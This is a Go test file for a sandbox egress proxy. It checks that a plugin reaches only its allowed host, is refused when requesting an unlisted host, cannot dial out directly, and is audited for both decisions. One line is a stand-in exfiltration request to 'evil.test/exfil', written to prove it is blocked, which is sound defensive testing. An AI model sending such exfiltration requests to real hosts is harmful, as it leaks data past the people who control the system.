package pluginbox_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/nemoclave/nemoclave/gateway/egress"
	"github.com/nemoclave/nemoclave/policy"
	"github.com/nemoclave/nemoclave/sandbox/pluginbox"
)

// mapResolver answers from a map, so no real DNS is ever asked.
type mapResolver map[string]netip.Addr

func (m mapResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := m[host]; ok {
		return []netip.Addr{a}, nil
	}
	return nil, fmt.Errorf("no such host %s", host)
}

// TestEscape_PL2_ThroughTheEgressProxy is PL2's network half for plugins
// that need the internet: the box has a network namespace of its own whose
// only way out is the daemon's egress gateway, under a policy naming the
// hosts its config names. The listed host is reached (and audited with the
// plugin's identity); an unlisted one is refused and audited; a direct
// connect reaches nothing.
func TestEscape_PL2_ThroughTheEgressProxy(t *testing.T) {
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "upstream for "+r.Host)
	}))
	defer upstream.Close()
	port := upstream.Listener.Addr().(*net.TCPAddr).Port
	audit := t.TempDir()
	lo := netip.MustParseAddr("127.0.0.1")
	// Loopback stands in for the internet here: the test may reach
	// nothing else. Both names resolve to the same server, so only the
	// policy tells them apart.
	proxy, err := egress.New(egress.Config{AuditDir: audit, Resolver: mapResolver{"api.provider.test": lo, "evil.test": lo}, UnsafeAllowLoopback: true,
		HostAddrs: func() []netip.Addr { return nil }})
	if err != nil {
		t.Fatal(err)
	}
	defer proxy.Close()
	id := egress.PluginID("tools", "attack", 1)
	if err := proxy.SetPolicy(id, egress.PluginPolicy(id, []policy.Endpoint{{Host: "api.provider.test", Ports: []int{port}}})); err != nil {
		t.Fatal(err)
	}
	e := setup(t, &pluginbox.Profile{Network: pluginbox.NetworkProxy, Egress: func(ctx context.Context, ln net.Listener) {
		_ = proxy.Serve(ctx, ln, id)
	}})

	allowed := fmt.Sprintf("http://api.provider.test:%d/v1/models", port)
	if got := e.attack("http_get", allowed, 0); !strings.HasPrefix(got, "ok: 200 upstream for api.provider.test") {
		t.Errorf("the plugin cannot reach the host its config names through the proxy: %s", got)
	}
	if got := e.attack("http_get", fmt.Sprintf("http://evil.test:%d/exfil?k=v", port), 0); !strings.HasPrefix(got, "ok: 403") {
		t.Errorf("an unlisted host was not refused by the proxy: %s", got)
	}
	// Direct: the box's namespace has only lo, where nothing but the
	// proxy listens, and Landlock allows connect to the proxy's port only.
	e.denied("dial_tcp", upstream.Listener.Addr().String(), refused, eacces)
	e.denied("dial_tcp", "1.1.1.1:443", unreach, eacces)
	e.denied("dial_tcp", "[2606:4700:4700::1111]:443", unreach, eacces)
	// The plugin's environment names the box's proxy, not the host's.
	if got := e.attack("env", "", 0); !strings.Contains(got, "HTTPS_PROXY=http://127.0.0.1:") {
		t.Errorf("the plugin's environment does not point at its proxy: %s", got)
	}

	// Both decisions are in the audit log under the plugin's identity.
	var allow, deny bool
	f, err := os.Open(filepath.Join(audit, "egress.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var ev egress.Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("audit line %q: %v", sc.Text(), err)
		}
		if ev.Sandbox != id {
			continue
		}
		switch {
		case ev.Host == "api.provider.test" && ev.Decision == "allow":
			allow = true
		case ev.Host == "evil.test" && ev.Decision == "deny":
			deny = true
		}
	}
	if !allow || !deny {
		b, _ := os.ReadFile(filepath.Join(audit, "egress.jsonl"))
		t.Errorf("audit log lacks the plugin's allow (%v) or deny (%v) line:\n%s", allow, deny, b)
	}
}
